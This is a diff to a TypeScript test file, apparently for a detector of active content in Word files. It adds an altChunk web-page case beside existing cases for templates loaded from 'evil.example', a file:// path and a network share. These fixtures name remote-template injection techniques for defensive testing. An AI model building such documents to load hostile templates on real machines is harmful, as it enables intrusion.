@@ -104,6 +104,11 @@ const active: [string, string, () => Parameters<typeof zipped>[0]][] = [
       ),
     ],
   ],
+  [
+    'a web page taken in as text',
+    'a.docx',
+    () => [...word, rels('word/_rels/document.xml.rels', `Type="${office}/aFChunk" Target="a.mht"`)],
+  ],
   ['a remote template', 'a.docx', () => [...word, template('https://evil.example/a.dotm')]],
   ['a template of another computer', 'a.docx', () => [...word, template('file://server/a.dotm')]],
   ['a template by a network name', 'a.docx', () => [...word, template('\\\\server\\share\\a.dotm')]],
